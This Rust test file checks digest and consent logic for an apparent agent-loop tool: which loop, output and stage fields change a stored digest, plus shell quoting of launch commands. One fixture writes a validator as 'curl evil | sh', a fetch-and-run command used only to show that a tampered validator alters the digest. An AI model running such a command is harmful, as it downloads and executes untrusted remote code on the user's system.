use super::*;
use crate::config::{SettingsFile, SettingsLayer, SettingsOwner, resolve_settings};
use crate::gate::OutputTier;
use crate::loops::{EndReason, LastStop, LoopStatus, Promise};

fn plain_loop() -> Loop {
    Loop {
        id: "l1".into(),
        created_at: "2026-11-15T19:22:00Z".into(),
        updated_at: "2026-11-15T19:22:00Z".into(),
        status: LoopStatus::Active,
        iteration: 1,
        max_iterations: 30,
        promises: vec![Promise { text: "ALL GREEN".into(), outcome: PromiseOutcome::Done }],
        source_packet_id: None,
        imported_from: None,
        session: Some("s1".into()),
        end_reason: None,
        ended_detail: None,
        validators: vec!["cargo test".into()],
        deadline: None,
        last_message_digest: None,
        last_stop: None,
        prompt: "Make it green.".into(),
    }
}

type LoopChange = fn(&mut Loop);

#[test]
fn what_the_engine_counts_changes_no_digest() {
    let given = digest_of_loop(&plain_loop());
    let changes: &[(&str, LoopChange)] = &[
        ("iteration", |state| state.iteration = 7),
        ("status", |state| state.status = LoopStatus::Paused),
        ("session", |state| state.session = Some("s2".into())),
        ("time", |state| state.updated_at = "2026-11-16T19:22:00Z".into()),
        ("end", |state| state.end_with_reason(EndReason::IterationLimit, Some("30 iterations".into()))),
        ("last stop", |state| state.last_stop = Some(LastStop::default())),
        ("last message", |state| state.last_message_digest = Some("0123".into())),
    ];
    for (what, change) in changes {
        let mut state = plain_loop();
        change(&mut state);
        assert_eq!(digest_of_loop(&state), given, "{what}");
    }
}

#[test]
fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
    let changes: &[(&str, LoopChange)] = &[
        ("prompt", |state| state.prompt.push(' ')),
        ("promise", |state| state.promises[0].text = "GREEN".into()),
        ("outcome", |state| state.promises[0].outcome = PromiseOutcome::Blocked),
        ("another promise", |state| state.promises.push(state.promises[0].clone())),
        ("no promise", |state| state.promises.clear()),
        ("validator", |state| state.validators[0] = "curl evil | sh".into()),
        ("another validator", |state| state.validators.push("true".into())),
        ("validator split", |state| state.validators = vec!["cargo".into(), " test".into()]),
        ("no validator", |state| state.validators.clear()),
        ("limit", |state| state.max_iterations = 0),
        ("deadline", |state| state.deadline = Some("2026-11-16T19:22:00Z".into())),
    ];
    let mut seen = vec![digest_of_loop(&plain_loop()), digest_of_claim(&plain_loop())];
    for (what, change) in changes {
        let mut state = plain_loop();
        change(&mut state);
        for digest in [digest_of_loop(&state), digest_of_claim(&state)] {
            assert!(!seen.contains(&digest), "{what}");
            seen.push(digest);
        }
    }
}

#[test]
fn a_field_cannot_run_over_into_the_next() {
    let with = |prompt: &str, file: &str, launch: &[&str]| {
        let launch = launch.iter().map(|word| (*word).to_owned()).collect();
        digest_of_output(&ExpectedOutput { prompt: prompt.into(), launch, ..ExpectedOutput::new(file) })
    };
    let all = [
        with("p", "a.md", &["sh", "-c", "x"]),
        with("pa", ".md", &["sh", "-c", "x"]),
        with("p", "a.md", &["sh", "-cx"]),
        with("p", "a.md", &["sh", "-c", "x", ""]),
        with("", "a.md", &["sh", "-c", "x"]),
        with("p", "b.md", &["sh", "-c", "x"]),
        with("p", "a.md", &[]),
    ];
    for (i, digest) in all.iter().enumerate() {
        assert_eq!(digest.len(), 64);
        assert!(!all[..i].contains(digest), "{i}");
    }
}

#[test]
fn what_a_run_counts_changes_no_digest_of_an_output() {
    let output = ExpectedOutput { launch: vec!["true".into()], ..ExpectedOutput::new("a.md") };
    let counted = ExpectedOutput {
        attempts: 2,
        was_valid: true,
        tier: OutputTier::Advisory,
        inputs_digest: "x".into(),
        not_before: Some(jiff::Timestamp::UNIX_EPOCH),
        ..output.clone()
    };
    assert_eq!(digest_of_output(&output), digest_of_output(&counted));
}

#[test]
fn a_digest_covers_the_checkout_in_which_a_command_runs() {
    let digest = |inputs_checkout: &str| {
        digest_of_output(&ExpectedOutput {
            launch: vec!["sh".into(), "./review.sh".into()],
            inputs_checkout: inputs_checkout.into(),
            ..ExpectedOutput::new("a.md")
        })
    };
    assert_eq!(digest(""), digest("."), "a record without a checkout keeps its consent");
    let all = ["", "./", "/p/tree", "/p/other", "tree"].map(digest);
    for (i, known) in all.iter().enumerate() {
        assert!(!all[..i].contains(known), "{i}");
    }
}

#[test]
fn a_stage_is_known_by_what_it_launches_and_not_by_where_it_is_defined() {
    let stage = |text: &str| {
        let path = if text.contains('#') { "there" } else { "here" };
        digest_of_stage(
            &resolve_settings(&[SettingsLayer::File(SettingsFile {
                path,
                text,
                owner: SettingsOwner::Project,
            })])
            .stages[0],
        )
    };
    let given = stage("[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\n");
    assert_eq!(given, stage("# moved\n[stages.r]\nlaunch = [\"x\"]\ncritical = [\"a.md\"]\n"));
    for other in [
        "[stages.q]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\n",
        "[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"y\"]\n",
        "[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\nprompt = \"p\"\n",
        "[stages.r]\ncritical = [\"a.md\", \"b.md\"]\nlaunch = [\"x\"]\n",
        "[stages.r]\noutputs = [{ file = \"a.md\", launch = [\"y\"] }]\nlaunch = [\"x\"]\n",
    ] {
        assert_ne!(given, stage(other), "{other}");
    }
}

/// Digests are stored, so they must stay the same in later versions.
#[test]
fn digests_stay_what_they_are() {
    let known = "1041494667aab52b7c80f45738e0f5012f4b79fcd96bc02c6031393548c6671e";
    assert_eq!(digest_of_loop(&plain_loop()), known);
}

#[test]
fn a_command_is_shown_whole() {
    let shown =
        |words: &[&str]| quote_command(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
    assert_eq!(shown(&["claude", "-p", "--model=x"]), "claude -p --model=x");
    assert_eq!(shown(&["sh", "-c", "a b > 'c'", ""]), r"sh -c 'a b > '\''c'\''' ''");
    assert_eq!(shown(&["x\u{1b}[2Ky", "\u{200b}"]), r"'x\u{1b}[2Ky' '\u{200b}'");
}
